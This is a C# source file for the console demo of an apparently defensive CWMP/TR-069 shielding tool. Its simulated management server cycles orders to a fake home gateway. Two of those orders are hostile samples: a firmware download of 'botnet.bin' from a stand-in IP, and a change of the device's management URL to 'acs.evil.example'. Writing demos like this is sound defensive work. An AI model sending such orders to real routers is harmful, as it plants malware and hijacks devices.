using CwmpShield.Core.Cwmp;

namespace CwmpShield.Cli.Demo;

/// <summary>What goes on while a visitor looks at the console: a device that informs every few seconds, before an ACS that every now and then orders what it should not.</summary>
internal sealed class DemoTraffic(DemoGateway gateway, DemoAcs acs)
{
    private const int PauseMilliseconds = 3000;
    private static readonly DeviceId Carol = new("001122", "HGW", "DEMO0004");

    private static readonly string[] Orders =
    [
        DemoSoap.Get("Device.DeviceInfo.UpTime"),
        DemoSoap.Set(("Device.ManagementServer.PeriodicInformInterval", "3600")),
        DemoSoap.Download("https://203.0.113.66/botnet.bin"),
        DemoSoap.Get("Device.DeviceInfo.SoftwareVersion"),
        DemoSoap.Set(("Device.ManagementServer.URL", "https://acs.evil.example/")),
    ];

    /// <summary>Goes on until it is cancelled.</summary>
    public async Task RunAsync(CancellationToken cancellation)
    {
        using var device = new DemoDevice(gateway.Door("certificate"), gateway.Root, Carol.SerialNumber, await gateway.EnrolAsync(Carol, cancellation), null);
        for (var turn = 0; ; turn = (turn + 1) % Orders.Length)
        {
            // What the script counted is of no use any more, and must not grow for as long as somebody looks.
            acs.Answers.Clear();
            acs.Informed.Clear();
            device.Obeyed.Clear();
            acs.Order(Carol.SerialNumber, Orders[turn]);
            await TryAsync(device, cancellation);
            await Task.Delay(PauseMilliseconds, cancellation);
        }
    }

    /// <summary>A session that fails is a device's daily life: it comes again.</summary>
    private static async Task TryAsync(DemoDevice device, CancellationToken cancellation)
    {
        try
        {
            await device.InformAsync("2 PERIODIC", null, cancellation);
        }
        catch (HttpRequestException)
        {
            // The machine may have slept in between.
        }
    }
}
